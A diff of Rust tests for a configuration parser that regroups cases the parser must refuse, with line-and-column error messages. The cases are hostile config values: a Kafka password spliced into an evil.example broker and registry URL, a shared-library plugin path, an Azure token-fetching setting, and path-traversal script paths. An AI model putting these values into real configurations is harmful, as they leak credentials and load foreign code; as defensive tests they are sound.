@@ -150,35 +150,6 @@ fn every_fault_is_told_with_line_and_word() {
             "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"security.protocol\" = \"tls\"".to_owned(),
             "4:23: `security.protocol` cannot have this value:",
         ),
-        (
-            "[connection.dev]\nbrokers = \"${KAFKA_PASSWORD}.evil.example\"".to_owned(),
-            "2:11: `bootstrap.servers` is no part of a login, and takes no value from outside",
-        ),
-        (
-            "[connection.dev]\nbrokers = \"a\"\nregistry = \"http://evil.example/${KAFKA_PASSWORD}\"".to_owned(),
-            "3:12: `registry` is no part of a login, and takes no value from outside",
-        ),
-        (
-            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"client.id\" = \"${KAFKA_PASSWORD}\"".to_owned(),
-            "4:15: `client.id` is no part of a login, and takes no value from outside",
-        ),
-        (
-            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"ssl.engine.location\" = \"${KAFKA_X}\"".to_owned(),
-            "4:25: `ssl.engine.location` is no part of a login",
-        ),
-        (
-            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"plugin.library.paths\" = \"x.so\"".to_owned(),
-            "4:26: `plugin.library.paths` is refused: it would load code into Foldback",
-        ),
-        (
-            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"sasl.oauthbearer.metadata.authentication.type\" = \"azure_imds\"".to_owned(),
-            "4:51: `sasl.oauthbearer.metadata.authentication.type` is refused: it would hand a token",
-        ),
-        (
-            with_order("fold = { code = \"../../elsewhere.js\" }"),
-            "3:17: `../../elsewhere.js` is no file of this workspace",
-        ),
-        ("[[upcast]]\ntype = \"A\"\nfrom = \"1\"\ncode = \"/x.js\"".to_owned(), "4:8: `/x.js` is no file of this workspace"),
         ("a = = 1".to_owned(), "1:5: "),
         (
             "[entity.order]\ntopics = [\"a\", \"b\\u0000\"]".to_owned(),
@@ -217,6 +188,48 @@ fn every_fault_is_told_with_line_and_word() {
         ),
         ("[[upcast]]\ntype = \"A\"\nfrom = 1\ncode = \"x\"".to_owned(), "3:8: invalid type: integer `1`"),
     ];
+    assert_refused(cases);
+}
+
+#[test]
+fn what_no_workspace_may_ask_for_is_told_with_line_and_word() {
+    let with_order = |more: &str| format!("[entity.order]\ntopics = [\"o\"]\n{more}");
+    let cases = [
+        (
+            "[connection.dev]\nbrokers = \"${KAFKA_PASSWORD}.evil.example\"".to_owned(),
+            "2:11: `bootstrap.servers` is no part of a login, and takes no value from outside",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\nregistry = \"http://evil.example/${KAFKA_PASSWORD}\"".to_owned(),
+            "3:12: `registry` is no part of a login, and takes no value from outside",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"client.id\" = \"${KAFKA_PASSWORD}\"".to_owned(),
+            "4:15: `client.id` is no part of a login, and takes no value from outside",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"ssl.engine.location\" = \"${KAFKA_X}\"".to_owned(),
+            "4:25: `ssl.engine.location` is no part of a login",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"plugin.library.paths\" = \"x.so\"".to_owned(),
+            "4:26: `plugin.library.paths` is refused: it would load code into Foldback",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"sasl.oauthbearer.metadata.authentication.type\" = \"azure_imds\"".to_owned(),
+            "4:51: `sasl.oauthbearer.metadata.authentication.type` is refused: it would hand a token",
+        ),
+        (
+            with_order("fold = { code = \"../../elsewhere.js\" }"),
+            "3:17: `../../elsewhere.js` is no file of this workspace",
+        ),
+        ("[[upcast]]\ntype = \"A\"\nfrom = \"1\"\ncode = \"/x.js\"".to_owned(), "4:8: `/x.js` is no file of this workspace"),
+    ];
+    assert_refused(cases);
+}
+
+/// Makes sure that each text is refused with the fault that is expected for it, in one line.
+fn assert_refused(cases: impl IntoIterator<Item = (String, &'static str)>) {
     for (text, expected) in cases {
         let Err(error) = parse(&text) else { panic!("this is accepted:\n{text}") };
         let words = error.to_string();
